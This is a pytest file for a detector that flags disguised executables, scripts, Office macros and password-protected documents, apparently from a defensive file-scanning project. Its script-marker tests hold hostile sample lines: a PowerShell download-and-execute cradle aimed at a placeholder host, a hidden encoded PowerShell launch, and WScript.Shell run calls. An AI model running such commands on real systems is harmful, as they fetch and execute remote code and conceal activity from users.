"""tinbai.parsers.danger on files built here: programs, scripts, VBA projects, password-protected documents.

The VBA projects are genuine ones, written by tests/office_fixtures.py from the
MS-OVBA and MS-CFB descriptions.
"""

from __future__ import annotations

import functools
import io
import os
import struct
import time
import warnings
import zipfile
from pathlib import Path

import msoffcrypto.format.ooxml
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.hostile_files import blank_pdf, synthetic_pe
from tests.office_fixtures import make_cfb, make_ooxml, vba_streams
from tests.pace import scaled
from tinbai.parsers.danger import executable_kind, is_encrypted_office, is_encrypted_pdf, macro_info
from tinbai.parsers.danger.executables import LNK_HEADER

# ------------------------------------------------------------------ executable_kind


def test_pe_named_pdf_is_a_program():
    assert executable_kind(synthetic_pe(), "bao-cao.pdf") == "pe"
    assert executable_kind(synthetic_pe(), None) == "pe"


def test_mz_text_without_pe_header_is_not_a_program():
    assert executable_kind(b"MZ Trading company report " + b"x" * 200, "report.txt") is None


@pytest.mark.skipif(not Path("/bin/true").exists(), reason="no /bin/true")
def test_elf_binary():
    assert executable_kind(Path("/bin/true").read_bytes(), "anh.jpg") == "elf"


def test_macho_fat_and_java_class():
    assert executable_kind(b"\xcf\xfa\xed\xfe" + bytes(60), "x") == "macho"
    assert executable_kind(b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + bytes(40), "x") == "macho"
    assert executable_kind(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40), "x") == "java-class"


def test_windows_shortcut_by_content():
    assert executable_kind(LNK_HEADER + bytes(60), "tai-lieu.pdf") == "lnk"


@pytest.mark.parametrize(
    ("first_line", "kind"),
    [
        (b"#!/bin/sh", "script:sh"),
        (b"#!/usr/bin/env python3", "script:python"),
        (b"#! /usr/bin/perl -w", "script:perl"),
        (b"#!/usr/bin/env -S node --harmony", "script:js"),
        (b"#!important: not a path", None),
    ],
)
def test_shebang(first_line: bytes, kind: str | None):
    assert executable_kind(first_line + b"\necho hello\n", "ghi-chu.txt") == kind


def test_java_and_android_packages_by_content():
    jar = io.BytesIO()
    with zipfile.ZipFile(jar, "w") as zf:
        zf.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: A\n")
        zf.writestr("A.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34")
    assert executable_kind(jar.getvalue(), "tai-lieu.zip") == "jar"
    apk = io.BytesIO()
    with zipfile.ZipFile(apk, "w") as zf:
        zf.writestr("AndroidManifest.xml", b"\x03\x00\x08\x00")
        zf.writestr("classes.dex", b"dex\n035\x00" + bytes(100))
    assert executable_kind(apk.getvalue(), "app.zip") == "apk"
    assert executable_kind(make_ooxml({}), "tin.docx") is None


def test_msi_by_root_clsid():
    # {000C1084-0000-0000-C000-000000000046}: first three fields little-endian
    clsid = struct.pack("<IHH", 0x000C1084, 0, 0) + bytes.fromhex("C000000000000046")
    assert executable_kind(make_cfb({"Property": b"x" * 10}, root_clsid=clsid), "setup.doc") == "msi"
    assert executable_kind(make_cfb({"WordDocument": bytes(5000)}), "tin.doc") is None


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("huong-dan-mo-file.js", "script:js"),
        ("HUONG DAN.JS", "script:js"),
        ("tai lieu.vbs", "script:vbs"),
        ("cai-dat.ps1", "script:ps1"),
        ("chay.bat", "script:bat"),
        ("a.cmd", "script:bat"),
        ("form.hta", "script:hta"),
        ("job.wsf", "script:wsf"),
        ("shell.php", "script:php"),
        ("setup.exe", "name:exe"),
        ("photo.jpg.scr", "name:scr"),
        ("bao-cao.pdf.exe. . ", "name:exe"),  # Windows drops trailing dots and spaces
        ("C:\\Users\\a\\Desktop\\tai-lieu.lnk", "name:lnk"),
        ("thu-vien.dll", "name:dll"),
        ("goi.msi", "name:msi"),
        ("app.apk", "name:apk"),
        ("bao-cao.doc", None),
        ("anh.jpg", None),
        ("README", None),
    ],
)
def test_kind_by_name_for_harmless_content(name: str, kind: str | None):
    assert executable_kind(b"\xff\xd8\xff\xe0 just a picture", name) == kind


def test_docx_named_doc_is_not_executable():
    assert executable_kind(make_ooxml({}), "bao-cao.doc") is None


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ('var sh = new ActiveXObject("WScript.Shell");\nsh.Run("cmd /c dir");', "script:js"),
        ('Set o = CreateObject("WScript.Shell")\r\no.Run "calc"', "script:vbs"),
        ("On Error Resume Next\r\nDim x\r\n", "script:vbs"),
        ("cmd /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "script:ps1"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')", "script:ps1"),
        ("\r\nREM cai dat\r\n@echo off\r\ncopy a b\r\n", "script:bat"),
        ('<html><head><HTA:APPLICATION ID="x"/></head></html>', "script:hta"),
        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n", "script:reg"),
        ("PowerShell là công cụ quản trị của Windows; bài viết hướng dẫn cán bộ cách dùng.", None),
        ("Sáng 28/4, Cục Thi hành án dân sự tỉnh tổ chức hội nghị.", None),
    ],
)
def test_script_markers_in_text(text: str, kind: str | None):
    assert executable_kind(text.encode(), "ghi-chu.txt") == kind


def test_script_markers_in_utf16_text():
    text = "\ufeffpowershell.exe -ExecutionPolicy Bypass -File x.ps1".encode("utf-16-le")
    assert executable_kind(text, "note.txt") == "script:ps1"


def test_documents_quoting_code_are_not_scripts():
    pdf = b"%PDF-1.4\n1 0 obj << /JS (new ActiveXObject\\(1\\)) >> endobj\n%%EOF"
    assert executable_kind(pdf, "tai-lieu.pdf") is None
    rtf = b'{\\rtf1\\ansi Set o = CreateObject("WScript.Shell")}'
    assert executable_kind(rtf, "tai-lieu.rtf") is None


def test_fast_on_large_benign_files():
    blobs = [os.urandom(20 * 1024 * 1024), ("Nội dung bài viết dài. " * 900_000).encode()]
    for blob in blobs:
        started = time.perf_counter()
        assert executable_kind(blob, "tai-lieu.bin") is None
        assert macro_info(blob) is None
        assert not is_encrypted_office(blob)
        assert not is_encrypted_pdf(blob)
        assert time.perf_counter() - started < scaled(1.0)


# ------------------------------------------------------------------ macro_info


def test_vba_project_is_genuine():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # olevba's pyparsing calls
        from oletools.olevba import VBA_Parser

    parser = VBA_Parser("vbaProject.bin", data=make_cfb(vba_streams()))
    macros = list(parser.extract_macros())
    parser.close()
    assert [(m[2], "AutoOpen" in m[3]) for m in macros] == [("Module1.bas", True)]


def test_docm_with_vba_macro():
    docm = make_ooxml({"word/vbaProject.bin": make_cfb(vba_streams())}, vba_part="word/vbaProject.bin")
    found = macro_info(docm)
    assert found is not None and found[0] == "AutoOpen" and "Module1.bas" in found


def test_word97_doc_with_macros_storage():
    doc = make_cfb({"WordDocument": bytes(5000), **vba_streams("Macros/")})
    found = macro_info(doc)
    assert found is not None and "AutoOpen" in found


def test_vba_part_that_olevba_cannot_read_is_still_a_macro():
    broken = make_ooxml({"word/vbaProject.bin": b"not an OLE file"}, vba_part="word/vbaProject.bin")
    assert macro_info(broken) == ["vbaProject.bin"]
    renamed = make_ooxml({"word/extra.dat": b"garbage"}, vba_part="word/extra.dat")
    assert macro_info(renamed) == ["extra.dat"]


def test_excel4_macro_sheets_and_opendocument_basic():
    xlsm = make_ooxml({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    assert macro_info(xlsm) == ["XLM:sheet1"]
    odt = io.BytesIO()
    with zipfile.ZipFile(odt, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", "<office:document-content/>")
        zf.writestr("Basic/script-lc.xml", "<library:libraries/>")
        zf.writestr("Basic/Standard/script-lb.xml", "<library:library/>")
        zf.writestr(
            "Basic/Standard/Module1.xml", '<script:module>Sub Main\nShell("x")\nEnd Sub</script:module>'
        )
    assert macro_info(odt.getvalue()) == ["Basic:Standard.Module1"]


def test_no_macros_and_olevba_not_run_on_plain_documents(monkeypatch: pytest.MonkeyPatch):
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("olevba should not run on a file that cannot hold VBA")

    import oletools.olevba

    monkeypatch.setattr(oletools.olevba, "VBA_Parser", refuse)
    assert macro_info(make_ooxml({"word/media/image1.png": b"\x89PNG" + bytes(100)})) is None
    assert macro_info(make_ooxml({"xl/printerSettings/printerSettings1.bin": bytes(200)})) is None
    assert macro_info(b"%PDF-1.7\n") is None
    assert macro_info(b"\xff\xd8\xff\xe0" + bytes(1000)) is None


def test_ole_without_vba_has_no_macros():
    assert macro_info(make_cfb({"WordDocument": bytes(5000)})) is None


# ------------------------------------------------------------------ passwords


def test_encrypted_docx():
    plain = make_ooxml({})
    encrypted = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(plain)).encrypt("secret", encrypted)
    assert is_encrypted_office(encrypted.getvalue())
    assert not is_encrypted_office(plain)


def _fib(flags: int, key: int) -> bytes:
    """FibBase of a Word 97 document: wIdent, nFib, …, flags (fEncrypted bit 8, fObfuscation bit 15), lKey."""
    base = struct.pack("<HHHHHHHI", 0xA5EC, 0x00C1, 0, 0x0409, 0, flags, 0x00BF, key)
    return base.ljust(5000, b"\x00")


def test_word97_encryption_flag():
    assert is_encrypted_office(
        make_cfb({"WordDocument": _fib(0x0100 | 0x8000, 0x1234), "1Table": bytes(100)})
    )
    assert not is_encrypted_office(make_cfb({"WordDocument": _fib(0, 0), "1Table": bytes(100)}))


def _workbook(verifier: int) -> bytes:
    bof = struct.pack("<HH", 0x0809, 16) + struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0)
    filepass = struct.pack("<HHHHH", 0x002F, 6, 0x0000, 0x1234, verifier)  # XOR obfuscation
    eof = struct.pack("<HH", 0x000A, 0)
    return (bof + filepass + eof).ljust(5000, b"\x00")


def test_xls_with_excels_default_password_is_not_encrypted():
    # 0x9A0A is the verifier of "VelvetSweatshop", which Excel tries itself without asking
    assert not is_encrypted_office(make_cfb({"Workbook": _workbook(0x9A0A)}))
    assert is_encrypted_office(make_cfb({"Workbook": _workbook(0x1111)}))


def test_encrypted_opendocument():
    def odt(manifest_extra: str) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr("mimetype", "application/vnd.oasis.opendocument.text")
            zf.writestr(
                "META-INF/manifest.xml",
                '<manifest:manifest><manifest:file-entry manifest:full-path="content.xml">'
                f"{manifest_extra}</manifest:file-entry></manifest:manifest>",
            )
        return buf.getvalue()

    assert is_encrypted_office(odt('<manifest:encryption-data manifest:checksum-type="SHA1/1K"/>'))
    assert not is_encrypted_office(odt(""))


def test_pdf_passwords():
    assert is_encrypted_pdf(blank_pdf(user_password="secret", owner_password="owner"))
    # restrictions only (empty user password): it opens, so it is not "encrypted" for the sender
    assert not is_encrypted_pdf(blank_pdf(user_password="", owner_password="owner"))
    assert not is_encrypted_pdf(blank_pdf())
    assert not is_encrypted_pdf(b"not a pdf")


def test_damaged_pdf_with_encrypt_entry():
    damaged = b"%PDF-1.4\n%garbage\ntrailer\n<< /Root 1 0 R /Encrypt 5 0 R >>\n%%EOF"
    assert is_encrypted_pdf(damaged)


def test_encrypted_checks_leave_non_office_files_alone():
    assert not is_encrypted_office(b"%PDF-1.4")
    assert not is_encrypted_office(make_cfb({"Property": b"x"}))  # OLE that is not Office


# ------------------------------------------------------------------ damaged input


@functools.cache
def _fuzz_bases() -> list[bytes]:
    encrypted = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(make_ooxml({}))).encrypt("secret", encrypted)
    return [
        make_ooxml({"word/vbaProject.bin": make_cfb(vba_streams())}, vba_part="word/vbaProject.bin"),
        make_cfb(
            {"WordDocument": _fib(0x0100 | 0x8000, 0x1234), "1Table": bytes(100), **vba_streams("Macros/")}
        ),
        make_cfb({"Workbook": _workbook(0x9A0A)}),
        encrypted.getvalue(),
        blank_pdf(user_password="secret", owner_password="owner"),
        synthetic_pe(),
    ]


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    which=st.integers(0, 5),
    flips=st.lists(st.tuples(st.integers(8, 10**6), st.integers(0, 255)), min_size=1, max_size=8),
    keep=st.floats(0.1, 1.0),
)
def test_damaged_files_never_raise(which: int, flips: list[tuple[int, int]], keep: float):
    data = bytearray(_fuzz_bases()[which])
    for pos, value in flips:
        data[pos % len(data)] = value
    data = bytes(data[: max(16, int(len(data) * keep))])
    kind = executable_kind(data, "tai-lieu.doc")
    assert kind is None or isinstance(kind, str)
    found = macro_info(data)
    assert found is None or (found and all(isinstance(n, str) for n in found))
    assert isinstance(is_encrypted_office(data), bool)
    assert isinstance(is_encrypted_pdf(data), bool)
